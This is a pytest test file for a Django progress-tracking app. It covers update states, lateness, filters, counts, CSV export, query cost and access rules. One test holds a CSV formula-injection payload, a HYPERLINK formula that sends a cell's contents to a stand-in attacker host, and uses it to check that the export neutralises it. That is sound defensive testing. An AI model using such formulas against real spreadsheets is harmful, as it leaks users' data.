"""The plan owner's overview of a period: every action's update state (late included) and
RAG, filters, counts, the CSV download, its cost, and what "My actions" says is due."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests import factories
from tests.conftest import Cast, signed_in
from trellis.accounts.models import Agency, Group, Membership, Person, Role
from trellis.plans.models import Action, Outcome, Plan
from trellis.progress.models import ProgressUpdate, ReportingPeriod, UpdateState
from trellis.progress.overview import Filters, overview_filter, overview_load
from trellis.progress.services import update_return, update_save, update_submit

# The Q3 2020 cycle, a week after its updates fell due (14 October 2020), as in the demo.
TODAY = dt.date(2020, 10, 23)
Q3 = 3  # index of Q3 2020 among the factory plan's periods (Q4 2019 is 0)


@pytest.fixture(autouse=True)
def _frozen() -> Iterator[None]:
    with time_machine.travel(dt.datetime(2020, 10, 23, 12, tzinfo=dt.UTC), tick=False):
        yield


def actions_of(plan: Plan) -> list[Action]:
    return list(
        Action.objects.filter(driver__outcome__plan=plan)
        .select_related("driver__outcome")
        .order_by("position")
    )


def period_of(plan: Plan, index: int) -> ReportingPeriod:
    return plan.periods.all()[index]


def membership(person: Person, cast: Cast) -> Membership:
    return Membership.objects.select_related("partnership", "person").get(
        person=person, partnership=cast.partnership
    )


def overview_url(cast: Cast, plan: Plan, query: str = "") -> str:
    return reverse("progress:overview", args=[cast.partnership.slug, plan.pk]) + query


def csv_url(cast: Cast, plan: Plan, query: str = "") -> str:
    return reverse("progress:overview-csv", args=[cast.partnership.slug, plan.pk]) + query


def page_action_ids(response: Any) -> list[int]:
    return [int(n) for n in re.findall(r'data-action="(\d+)"', response.content.decode())]


def csv_rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


# States, late included


def state_of(cast: Cast, action: Action, *, index: int = Q3, today: dt.date = TODAY) -> Any:
    overview = overview_load(
        membership(cast.owner, cast),
        cast.plan.pk,
        period_pk=period_of(cast.plan, index).pk,
        today=today,
    )
    return next(r for r in overview.rows if r.action_id == action.pk)


def test_an_action_with_no_update_is_missing_and_late_once_its_due_date_has_passed(
    cast: Cast,
) -> None:
    action = actions_of(cast.plan)[0]
    due = period_of(cast.plan, Q3).due

    on_due_date = state_of(cast, action, today=due)
    day_after = state_of(cast, action, today=due + dt.timedelta(days=1))

    assert (on_due_date.state, on_due_date.late) == ("missing", False)
    assert (day_after.state, day_after.late) == ("missing", True)
    assert day_after.rag == "none"


def test_a_draft_is_late_once_its_due_date_has_passed(cast: Cast) -> None:
    action = actions_of(cast.plan)[0]
    factories.update(action, state=UpdateState.DRAFT, rag="amber", period_index=Q3)
    due = period_of(cast.plan, Q3).due

    assert state_of(cast, action, today=due).late is False
    row = state_of(cast, action, today=due + dt.timedelta(days=1))
    assert (row.state, row.late, row.rag) == ("draft", True, "amber")


def test_an_update_submitted_on_time_is_submitted_and_not_late(cast: Cast) -> None:
    action = actions_of(cast.plan)[0]
    period = period_of(cast.plan, Q3)
    lead = membership(cast.lead, cast)
    with time_machine.travel(dt.datetime(2020, 10, 14, 9, tzinfo=dt.UTC), tick=False):
        draft = update_save(
            membership=lead, action=action, period=period, rag="green", narrative="On track."
        )
        update_submit(membership=lead, update=draft, expected_version=draft.version)

    row = state_of(cast, action)
    assert (row.state, row.late, row.rag) == ("submitted", False, "green")


def test_an_update_submitted_after_its_due_date_stays_late_once_accepted(cast: Cast) -> None:
    action = actions_of(cast.plan)[0]
    period = period_of(cast.plan, Q3)
    lead = membership(cast.lead, cast)
    draft = update_save(
        membership=lead, action=action, period=period, rag="red", narrative="Behind."
    )
    update_submit(membership=lead, update=draft, expected_version=draft.version)
    ProgressUpdate.objects.filter(pk=draft.pk).update(state=UpdateState.ACCEPTED)

    row = state_of(cast, action)
    assert ProgressUpdate.objects.get(pk=draft.pk).late is True
    assert (row.state, row.late, row.rag) == ("accepted", True, "red")


def test_an_update_accepted_on_time_is_not_late(cast: Cast) -> None:
    action = actions_of(cast.plan)[0]
    factories.update(action, state=UpdateState.ACCEPTED, period_index=Q3)

    row = state_of(cast, action)
    assert (row.state, row.late) == ("accepted", False)


def test_a_returned_update_is_late_once_the_due_date_passes_without_resubmission(
    cast: Cast,
) -> None:
    action = actions_of(cast.plan)[0]
    period = period_of(cast.plan, Q3)
    lead, owner = membership(cast.lead, cast), membership(cast.owner, cast)
    with time_machine.travel(dt.datetime(2020, 10, 5, 9, tzinfo=dt.UTC), tick=False):
        draft = update_save(
            membership=lead, action=action, period=period, rag="amber", narrative="Some."
        )
        sent = update_submit(membership=lead, update=draft, expected_version=draft.version)
        update_return(
            membership=owner, update=sent, expected_version=sent.version, reason="Add figures."
        )

    assert state_of(cast, action, today=period.due).late is False
    row = state_of(cast, action)
    assert (row.state, row.late) == ("returned", True)


def test_the_overview_shows_the_latest_started_period_that_has_updates(cast: Cast) -> None:
    action = actions_of(cast.plan)[0]
    factories.update(action, period_index=Q3)  # Q4 2020 has started but has no updates yet

    response = signed_in(cast.owner).get(overview_url(cast, cast.plan))

    assert response.context["overview"].period.label == "Q3 2020"
    blank = signed_in(cast.owner).get(overview_url(cast, cast.plan, "?period="))
    assert blank.context["overview"].period.label == "Q3 2020"
    chosen = period_of(cast.plan, 0)
    picked = signed_in(cast.owner).get(overview_url(cast, cast.plan, f"?period={chosen.pk}"))
    assert picked.context["overview"].period == chosen
    assert "Q4 2019" in picked.content.decode()


def test_with_no_updates_anywhere_the_latest_started_period_is_shown(cast: Cast) -> None:
    response = signed_in(cast.owner).get(overview_url(cast, cast.plan))

    assert response.context["overview"].period.label == "Q4 2020"


# Filters and counts


@dataclass
class Mixed:
    """A plan of six actions: two per lead. Lead A (Council) sits on the group, lead B
    (NHS) chairs it, lead C (Police) is not on it. Q3 updates of every kind."""

    plan: Plan
    actions: list[Action]
    lead_a: Person
    lead_b: Person
    lead_c: Person
    council: Agency
    nhs: Agency
    group: Group


@pytest.fixture
def mixed(cast: Cast) -> Mixed:
    part = cast.partnership
    council = Agency.objects.create(partnership=part, name="Riverside Council")
    nhs = Agency.objects.create(partnership=part, name="NHS Riverside")
    police = Agency.objects.create(partnership=part, name="Police Scotland")
    lead_a = factories.person(part, Role.LEAD, agency=council)
    lead_b = factories.person(part, Role.LEAD, agency=nhs)
    lead_c = factories.person(part, Role.LEAD, agency=police)
    group = Group.objects.create(partnership=part, name="Chief Officers Group", chair=lead_b)
    group.members.add(lead_a)
    plan = factories.plan_tree(part, actions=6)
    actions = actions_of(plan)
    for action, lead in zip(actions, [lead_a, lead_a, lead_b, lead_b, lead_c, lead_c], strict=True):
        Action.objects.filter(pk=action.pk).update(lead=lead)
        action.lead = lead
    # 0 missing, 1 draft red, 2 submitted amber, 3 accepted green, 4 returned red,
    # 5 accepted (late) complete.
    factories.update(actions[1], state="draft", rag="red", period_index=Q3)
    factories.update(actions[2], state="submitted", rag="amber", period_index=Q3)
    factories.update(actions[3], state="accepted", rag="green", period_index=Q3)
    factories.update(actions[4], state="returned", rag="red", period_index=Q3)
    late = factories.update(actions[5], state="accepted", rag="complete", period_index=Q3)
    ProgressUpdate.objects.filter(pk=late.pk).update(late=True)
    return Mixed(plan, actions, lead_a, lead_b, lead_c, council, nhs, group)


def shown(cast: Cast, mixed: Mixed, **filters: Any) -> list[int]:
    overview = overview_load(membership(cast.owner, cast), mixed.plan.pk, today=TODAY)
    result = overview_filter(overview, Filters(**filters))
    index = {a.pk: i for i, a in enumerate(mixed.actions)}
    return [index[r.action_id] for r in result.rows]


def test_each_state_is_computed_for_the_mixed_plan(cast: Cast, mixed: Mixed) -> None:
    overview = overview_load(membership(cast.owner, cast), mixed.plan.pk, today=TODAY)

    assert [(r.state, r.late, r.rag) for r in overview.rows] == [
        ("missing", True, "none"),
        ("draft", True, "red"),
        ("submitted", False, "amber"),
        ("accepted", False, "green"),
        ("returned", True, "red"),
        ("accepted", True, "complete"),
    ]
    assert [r.agency_name for r in overview.rows][::2] == [
        "Riverside Council",
        "NHS Riverside",
        "Police Scotland",
    ]


def test_the_outcome_filter_keeps_only_that_outcomes_actions(cast: Cast, mixed: Mixed) -> None:
    outcome = Outcome.objects.filter(plan=mixed.plan).order_by("position")[0]
    expected = [i for i, a in enumerate(mixed.actions) if a.driver.outcome_id == outcome.pk]

    assert shown(cast, mixed, outcome=outcome.pk) == expected
    assert 0 < len(expected) < 6


def test_the_agency_filter_keeps_actions_whose_lead_is_in_that_agency(
    cast: Cast, mixed: Mixed
) -> None:
    assert shown(cast, mixed, agency=mixed.nhs.pk) == [2, 3]
    assert shown(cast, mixed, agency=mixed.council.pk) == [0, 1]


def test_the_group_filter_keeps_actions_led_by_the_groups_members_and_chair(
    cast: Cast, mixed: Mixed
) -> None:
    assert shown(cast, mixed, group=mixed.group.pk) == [0, 1, 2, 3]


def test_the_lead_filter_keeps_only_that_leads_actions(cast: Cast, mixed: Mixed) -> None:
    assert shown(cast, mixed, lead=mixed.lead_c.pk) == [4, 5]


def test_the_state_filter_keeps_actions_in_that_state_and_late_cuts_across_states(
    cast: Cast, mixed: Mixed
) -> None:
    assert shown(cast, mixed, state="accepted") == [3, 5]
    assert shown(cast, mixed, state="missing") == [0]
    assert shown(cast, mixed, state="late") == [0, 1, 4, 5]


def test_the_rag_filter_keeps_actions_with_that_status(cast: Cast, mixed: Mixed) -> None:
    assert shown(cast, mixed, rag="red") == [1, 4]
    assert shown(cast, mixed, rag="none") == [0]


def test_filters_combine(cast: Cast, mixed: Mixed) -> None:
    assert shown(cast, mixed, group=mixed.group.pk, state="late") == [0, 1]
    assert shown(cast, mixed, agency=mixed.nhs.pk, rag="red") == []


def test_counts_by_state_and_rag_each_apply_every_other_filter(cast: Cast, mixed: Mixed) -> None:
    overview = overview_load(membership(cast.owner, cast), mixed.plan.pk, today=TODAY)

    every = overview_filter(overview, Filters())
    red_only = overview_filter(overview, Filters(rag="red"))
    late_only = overview_filter(overview, Filters(state="late"))

    counts = {c.value: c.count for c in every.state_counts}
    assert counts == {
        "missing": 1,
        "draft": 1,
        "submitted": 1,
        "accepted": 2,
        "returned": 1,
        "late": 4,
    }
    assert {c.value: c.count for c in every.rag_counts} == {
        "not-started": 0,
        "red": 2,
        "amber": 1,
        "green": 1,
        "complete": 1,
        "none": 1,
    }
    assert {c.value: c.count for c in red_only.state_counts if c.count} == {
        "draft": 1,
        "returned": 1,
        "late": 2,
    }
    assert {c.value: c.count for c in late_only.rag_counts if c.count} == {
        "red": 2,
        "complete": 1,
        "none": 1,
    }
    assert every.total == red_only.total == 6


def test_the_page_shows_counts_that_link_to_the_filtered_view(cast: Cast, mixed: Mixed) -> None:
    client = signed_in(cast.owner)
    page = client.get(overview_url(cast, mixed.plan)).content.decode()

    link = re.search(r'data-state="late" href="([^"]+)"', page)
    assert link is not None
    assert re.search(r'data-state="late" href="[^"]+">4<', page)
    assert re.search(r'data-rag="red" href="[^"]+">2<', page)
    filtered = client.get(overview_url(cast, mixed.plan) + link.group(1).replace("&amp;", "&"))

    assert filtered.status_code == 200
    assert page_action_ids(filtered) == [mixed.actions[i].pk for i in (0, 1, 4, 5)]
    assert "Showing 4 of 6 actions" in filtered.content.decode()


def test_the_filter_form_narrows_the_table_by_get(cast: Cast, mixed: Mixed) -> None:
    response = signed_in(cast.board).get(
        overview_url(cast, mixed.plan, f"?group={mixed.group.pk}&rag=red")
    )

    assert response.status_code == 200
    assert page_action_ids(response) == [mixed.actions[1].pk]
    assert 'name="group"' in response.content.decode()


def test_an_unknown_filter_value_is_refused_with_an_error_beside_the_field(
    cast: Cast, mixed: Mixed
) -> None:
    other = factories.plan_tree(cast.partnership, actions=1)
    client = signed_in(cast.owner)

    bad_state = client.get(overview_url(cast, mixed.plan, "?state=lost"))
    other_period = client.get(overview_url(cast, mixed.plan, f"?period={period_of(other, 0).pk}"))
    bad_csv = client.get(csv_url(cast, mixed.plan, "?agency=abc"))

    assert bad_state.status_code == 400
    assert "state" in bad_state.context["form"].errors
    assert page_action_ids(bad_state) == []
    assert other_period.status_code == 400
    assert "period" in other_period.context["form"].errors
    assert bad_csv.status_code == 400
    assert not bad_csv["Content-Type"].startswith("text/csv")


def test_a_restricted_updates_rag_is_hidden_from_those_who_may_not_read_it(
    cast: Cast, mixed: Mixed
) -> None:
    police = Group.objects.create(partnership=cast.partnership, name="Police operational")
    update = ProgressUpdate.objects.get(action=mixed.actions[1])
    update.restricted_to.add(police)

    board = signed_in(cast.board).get(overview_url(cast, mixed.plan, "?rag=red"))
    board_restricted = signed_in(cast.board).get(overview_url(cast, mixed.plan, "?rag=restricted"))
    owner = signed_in(cast.owner).get(overview_url(cast, mixed.plan, "?rag=red"))

    assert page_action_ids(board) == [mixed.actions[4].pk]
    assert page_action_ids(board_restricted) == [mixed.actions[1].pk]
    assert "Draft" in board_restricted.content.decode()
    assert page_action_ids(owner) == [mixed.actions[1].pk, mixed.actions[4].pk]


# The CSV


def test_the_csv_has_the_same_rows_as_the_page_with_the_same_filters(
    cast: Cast, mixed: Mixed
) -> None:
    client = signed_in(cast.owner)
    query = f"?group={mixed.group.pk}"
    page = client.get(overview_url(cast, mixed.plan, query))
    download = client.get(csv_url(cast, mixed.plan, query))

    rows = csv_rows(download)
    titles = {a.pk: a.title for a in mixed.actions}
    assert rows[0][:4] == [
        "Period",
        "Updates due",
        "Stretch outcome aim",
        "Improvement project aim",
    ]
    assert [r[3] for r in rows[1:]] == [titles[pk] for pk in page_action_ids(page)]
    assert [r[7:] for r in rows[1:]] == [
        ["Missing", "Yes", "No update"],
        ["Draft", "Yes", "Red"],
        ["Submitted", "No", "Amber"],
        ["Accepted", "No", "Green"],
    ]
    assert rows[1][:2] == ["Q3 2020", "2020-10-14"]
    assert rows[1][5] == "Riverside Council"


def test_the_csv_is_an_attachment_that_is_never_cached(cast: Cast, mixed: Mixed) -> None:
    response = signed_in(cast.inspector).get(csv_url(cast, mixed.plan))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert ".csv" in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_formula_in_an_action_title_comes_out_of_the_csv_as_text(
    cast: Cast, mixed: Mixed
) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    Action.objects.filter(pk=mixed.actions[0].pk).update(
        title=formula, lead_responsibility="@SUM(1+1)"
    )

    rows = csv_rows(signed_in(cast.owner).get(csv_url(cast, mixed.plan)))

    assert rows[1][3] == "'" + formula
    assert rows[1][6] == "'@SUM(1+1)"
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@")) for r in rows for cell in r)


# Cost


def queries_for(client: Client, url: str) -> int:
    client.get(url)  # warm per-process caches
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured)


def plan_with_updates(cast: Cast, actions: int) -> Plan:
    """A plan whose Q3 updates are in every state, some restricted, leads in an agency."""
    agency = Agency.objects.get_or_create(partnership=cast.partnership, name="Council")[0]
    group = Group.objects.get_or_create(partnership=cast.partnership, name="Board")[0]
    lead = factories.person(cast.partnership, Role.LEAD, agency=agency)
    plan = factories.plan_tree(cast.partnership, actions=actions, lead=lead)
    states = ["draft", "submitted", "accepted", "returned", None]
    for i, action in enumerate(actions_of(plan)):
        if states[i % 5] is not None:
            update = factories.update(action, state=states[i % 5] or "", period_index=Q3)
            if i % 3 == 0:
                update.restricted_to.add(group)
    return plan


@pytest.mark.parametrize("kind", ["page", "csv"])
def test_the_overview_costs_the_same_queries_for_3_and_30_actions(
    cast: Cast, kind: str, django_assert_num_queries: Any
) -> None:
    small = plan_with_updates(cast, 3)
    large = plan_with_updates(cast, 30)
    make = overview_url if kind == "page" else csv_url
    client = signed_in(cast.board)  # a board member: restricted updates need checking

    expected = queries_for(client, make(cast, small, "?state=late"))
    print(f"overview {kind}: {expected} queries")
    client.get(make(cast, large, "?state=late"))
    with django_assert_num_queries(expected):
        response = client.get(make(cast, large))

    assert response.status_code == 200
    if kind == "page":
        assert len(page_action_ids(response)) == 30
    else:
        assert len(csv_rows(response)) == 31


# Who may see it


@pytest.mark.parametrize("role", ["admin", "owner", "lead", "analyst", "board", "inspector"])
def test_every_member_of_the_partnership_may_read_the_overview(cast: Cast, role: str) -> None:
    person = cast.by_role()[role]
    response = signed_in(person).get(overview_url(cast, cast.plan))

    assert response.status_code == 200
    assert len(page_action_ids(response)) == 3


def test_an_outsider_is_told_the_overview_does_not_exist(cast: Cast) -> None:
    client = signed_in(cast.outsider)

    assert client.get(overview_url(cast, cast.plan)).status_code == 404
    assert client.get(csv_url(cast, cast.plan)).status_code == 404


def test_a_plan_of_another_partnership_is_not_found(cast: Cast) -> None:
    theirs = factories.plan_tree(cast.other, actions=2)

    assert signed_in(cast.owner).get(overview_url(cast, theirs)).status_code == 404


def test_an_anonymous_visitor_is_sent_to_sign_in(cast: Cast) -> None:
    sign_in = reverse("accounts:sign-in")

    page = Client().get(overview_url(cast, cast.plan))
    download = Client().get(csv_url(cast, cast.plan))

    assert page.status_code == download.status_code == 302
    assert page["Location"].startswith(sign_in)
    assert download["Location"].startswith(sign_in)


# My actions


def test_my_actions_shows_the_lead_what_is_due_from_them(cast: Cast) -> None:
    first, second, third = actions_of(cast.plan)
    factories.update(first, state="submitted", period_index=Q3)
    factories.update(second, state="draft", period_index=Q3)

    response = signed_in(cast.lead).get(reverse("plans:my-actions", args=[cast.partnership.slug]))

    page = response.content.decode()
    due = {action.pk: d for action, d in response.context["rows"]}
    assert [(due[a.pk].state, due[a.pk].late) for a in (first, second, third)] == [
        ("submitted", False),
        ("draft", True),
        ("missing", True),
    ]
    assert due[first.pk].period_label == "Q3 2020"
    assert "Q3 2020 update, due by 14 October 2020" in page
    assert page.count(">Late</strong>") == 2
